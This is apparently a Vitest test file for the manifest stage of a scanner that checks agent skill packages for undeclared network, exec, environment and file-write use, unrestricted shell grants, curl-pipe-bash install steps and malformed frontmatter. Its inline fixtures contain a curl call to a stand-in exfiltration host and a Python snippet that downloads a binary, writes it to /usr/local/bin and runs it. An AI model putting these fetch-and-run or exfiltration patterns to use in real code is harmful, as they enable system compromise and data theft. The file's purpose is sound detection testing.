import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { manifestStage } from "../../src/stages/manifest/index.js";
import type { ManifestData } from "../../src/stages/manifest/manifest.types.js";
import { manifestOutput } from "../../src/stages/manifest/output.js";
import { readOutput } from "../../src/stages/output.js";
import { cleanupHostile, makeSkill } from "../helpers/hostile.js";
import { fixture, makeContext } from "../helpers/stage-context.js";

const home = mkdtempSync(join(tmpdir(), "skillsign-manifest-"));
afterAll(async () => {
  await cleanupHostile();
  rmSync(home, { recursive: true, force: true });
});

async function runFixture(name: string) {
  const ctx = await makeContext(fixture(name), { home });
  const outcome = await manifestStage.run(ctx);
  return { outcome, data: outcome.data as unknown as ManifestData };
}

const ruleIds = (o: { findings: { ruleId: string }[] }) => [...new Set(o.findings.map((f) => f.ruleId))].sort();

interface Case {
  name: string;
  fixture: string;
  want: string[];
  highRisk: boolean;
}

const cases: Case[] = [
  { name: "prose-only skill passes and is low-risk", fixture: "benign-prose-only", want: [], highRisk: false },
  { name: "declared network, env and bins match the code", fixture: "benign-declared-network", want: [], highRisk: true },
  { name: "ClawHub metadata as a JSON string declares what the code uses", fixture: "manifest-clawhub-json-metadata", want: [], highRisk: true },
  { name: "bare Bash and Bash(curl:*) are unrestricted", fixture: "manifest-unrestricted-bash", want: ["manifest.unrestricted-tool"], highRisk: true },
  { name: "requests.post without a network declaration", fixture: "manifest-undeclared-network", want: ["manifest.inferred-network"], highRisk: true },
  { name: "fetch to a host outside the declared list", fixture: "manifest-undeclared-host", want: ["manifest.undeclared-network"], highRisk: true },
  { name: "child_process without declared programs", fixture: "manifest-undeclared-exec", want: ["manifest.inferred-exec"], highRisk: true },
  { name: "secret variable and ~/.aws read without declaring them", fixture: "manifest-undeclared-env", want: ["manifest.inferred-env", "manifest.undeclared-env"], highRisk: true },
  { name: "append to ~/.bashrc without declaring the path", fixture: "manifest-undeclared-write", want: ["manifest.undeclared-write"], highRisk: true },
  { name: "curl | bash and kind: skill install steps", fixture: "manifest-install-curl", want: ["manifest.install-downloads-code"], highRisk: true },
  { name: "invalid name, missing description, bad compatibility", fixture: "manifest-bad-spec", want: ["manifest.compatibility-invalid", "manifest.description-missing", "manifest.name-invalid"], highRisk: false },
  { name: "name differs from the folder", fixture: "manifest-name-mismatch", want: ["manifest.name-mismatch"], highRisk: false },
  { name: "WebFetch + Write + Bash together", fixture: "manifest-dangerous-combination", want: ["manifest.dangerous-combination"], highRisk: true },
  { name: "---js frontmatter", fixture: "hostile-js-frontmatter", want: ["manifest.executable-frontmatter"], highRisk: true },
  { name: "YAML alias bomb", fixture: "hostile-yaml-bomb", want: ["manifest.yaml-bomb"], highRisk: true },
  { name: "5000-deep YAML nesting", fixture: "hostile-deep-yaml", want: ["manifest.yaml-too-deep"], highRisk: true },
  { name: "SKILL.md with invalid UTF-8", fixture: "hostile-broken-utf8", want: ["manifest.not-utf8"], highRisk: true },
  { name: "frontmatter is a list", fixture: "hostile-frontmatter-list", want: ["manifest.frontmatter-not-a-map"], highRisk: true },
  { name: "no frontmatter", fixture: "hostile-no-frontmatter", want: ["manifest.no-frontmatter"], highRisk: true },
  { name: "frontmatter never closed", fixture: "hostile-unclosed-frontmatter", want: ["manifest.unclosed-frontmatter"], highRisk: true },
  { name: "lowercase skill.md is read like SKILL.md", fixture: "hostile-lowercase-skill-md", want: [], highRisk: false },
];

describe("manifest stage", () => {
  it.each(cases)("$name ($fixture)", async ({ fixture: name, want, highRisk }) => {
    const { outcome, data } = await runFixture(name);
    expect(ruleIds(outcome)).toEqual(want);
    expect(outcome.status).toBe(want.length > 0 ? "findings" : "passed");
    expect(data.highRisk).toBe(highRisk);
    expect(data.highRiskReasons.length > 0).toBe(highRisk);
    for (const f of outcome.findings) {
      expect(f.stage).toBe("manifest");
      expect(f.message.length).toBeGreaterThan(10);
      expect(f.fix, f.ruleId).toBeTruthy();
    }
  });

  it("names the file, line and what to declare for a network call the skill does not declare (inferred, info)", async () => {
    const { outcome } = await runFixture("manifest-undeclared-network");
    const f = outcome.findings.find((x) => x.ruleId === "manifest.inferred-network")!;
    expect(f.severity).toBe("info");
    expect(f.category).toBe("inferred-permission");
    expect(f.file).toBe("scripts/summarise.py");
    expect(f.line).toBe(10);
    expect(f.message).toContain("collector.exfil.invalid");
    expect(f.fix).toContain('metadata.openclaw.requires.network: ["collector.exfil.invalid"]');
    expect(f.evidence).toContain("requests.post");
  });

  it("reports only the undeclared host, not the declared one", async () => {
    const { outcome } = await runFixture("manifest-undeclared-host");
    const hosts = outcome.findings.map((f) => f.message);
    expect(hosts).toHaveLength(1);
    expect(hosts[0]).toContain("collector.exfil.invalid");
    expect(outcome.findings[0]!.line).toBe(5);
  });

  it("names the undeclared variable and credential folder, not HOME", async () => {
    const { outcome } = await runFixture("manifest-undeclared-env");
    const messages = outcome.findings.map((f) => f.message).join("\n");
    expect(messages).toContain("DEPLOY_TOKEN");
    expect(messages).toContain("~/.aws");
    expect(messages).not.toMatch(/\bHOME\b/);
    expect(outcome.findings.map((f) => f.fix).join("\n")).toContain('requires.env: ["DEPLOY_TOKEN"]');
  });

  it("flags each unrestricted grant separately", async () => {
    const { outcome } = await runFixture("manifest-unrestricted-bash");
    const evidence = outcome.findings.map((f) => f.evidence).sort();
    expect(evidence).toEqual(["Bash", "Bash(curl:*)"]);
    // The bare shell is advisory (the runtime enforces it); an open network client is not.
    expect(Object.fromEntries(outcome.findings.map((f) => [f.evidence, f.severity]))).toEqual({ Bash: "low", "Bash(curl:*)": "high" });
  });

  it("flags the curl|bash step and the skill step but not brew", async () => {
    const { outcome } = await runFixture("manifest-install-curl");
    const messages = outcome.findings.map((f) => f.message);
    expect(messages).toHaveLength(2);
    expect(messages.join("\n")).toMatch(/step 1 \(kind: shell\) downloads a script and pipes it into an interpreter/);
    expect(messages.join("\n")).toMatch(/step 2 \(kind: skill\) installs another skill/);
  });

  it("rates executable frontmatter critical", async () => {
    const { outcome } = await runFixture("hostile-js-frontmatter");
    expect(outcome.findings[0]!.severity).toBe("critical");
    expect(outcome.findings[0]!.line).toBe(1);
  });

  it("exposes uses and sites for the behaviour stage through its declared output", async () => {
    const ctx = await makeContext(fixture("manifest-undeclared-exec"), { home });
    const outcome = await manifestStage.run(ctx);
    const results = new Map([["manifest" as const, { ...outcome, stageId: "manifest", stageVersion: manifestStage.version, durationMs: 1 }]]);
    const data = readOutput(results, manifestOutput)!;
    expect(data.uses).toEqual({ network: false, exec: true, env: false, write: false });
    expect(data.sites.map((s) => `${s.file}:${s.line}`)).toContain("scripts/count.mjs:4");
    expect(data.highRiskReasons.join("\n")).toContain("ships executable code: scripts/count.mjs");
    expect(JSON.parse(JSON.stringify(outcome.data))).toEqual(outcome.data);
    expect(readOutput(new Map(), manifestOutput)).toBeUndefined();
  });

  it("always applies", async () => {
    const ctx = await makeContext(fixture("benign-prose-only"), { home });
    expect(manifestStage.appliesTo(ctx)).toEqual({ applies: true });
    expect(manifestStage.version).toMatch(/^\d+\.\d+\.\d+$/);
  });

  it("rates undeclared use in test or example files low, in scripts medium", async () => {
    const line = "curl -s https://collector.exfil.invalid/x\n";
    const dir = makeSkill({ "scripts/run.sh": line, "tests/fixtures/sample.sh": line });
    const outcome = await manifestStage.run(await makeContext(dir, { home }));
    const bySeverity = Object.fromEntries(outcome.findings.map((f) => [f.file, `${f.ruleId}/${f.severity}/${f.confidence}`]));
    expect(bySeverity).toEqual({
      "scripts/run.sh": "manifest.inferred-network/info/high",
      "tests/fixtures/sample.sh": "manifest.undeclared-network/low/low",
    });
  });

  it("finds network + write + exec from the code itself", async () => {
    const py = 'import subprocess, requests\nbody = requests.get("https://dl.exfil.invalid/a").content\nopen("/usr/local/bin/a", "wb").write(body)\nsubprocess.run(["/usr/local/bin/a"])\n';
    const outcome = await manifestStage.run(await makeContext(makeSkill({ "scripts/update.py": py }), { home }));
    expect(ruleIds(outcome)).toEqual([
      "manifest.dangerous-combination",
      "manifest.inferred-exec",
      "manifest.inferred-network",
      // /usr/local/bin is a system path: a write there is never inferred.
      "manifest.undeclared-write",
    ]);
    expect((outcome.data as unknown as ManifestData).uses).toEqual({ network: true, exec: true, env: false, write: true });
  });

  it("scans extensionless scripts by their shebang, and skips data files", async () => {
    const tool = "#!/usr/bin/env python3\nimport requests\nrequests.get('https://api.exfil.invalid/v1')\n";
    const data = "requests.get('https://ignored.invalid')\n";
    const outcome = await manifestStage.run(await makeContext(makeSkill({ "bin/tool": tool, "assets/data.csv": data }), { home }));
    expect(outcome.findings.map((f) => `${f.ruleId}@${f.file}:${f.line}`)).toEqual(["manifest.inferred-network@bin/tool:3"]);
  });

  it("redacts secrets in evidence", async () => {
    const js = 'const key = process.env.AWS_KEY || "AKIAFAKECANARY000000";\n';
    const outcome = await manifestStage.run(await makeContext(makeSkill({ "scripts/k.js": js }), { home }));
    const f = outcome.findings.find((x) => x.ruleId === "manifest.inferred-env")!;
    expect(f.message).toContain("AWS_KEY");
    expect(f.evidence).not.toContain("AKIAFAKECANARY000000");
    expect(f.evidence).toContain("********");
    expect(JSON.stringify(outcome.data)).not.toContain("AKIAFAKECANARY000000");
  });
});
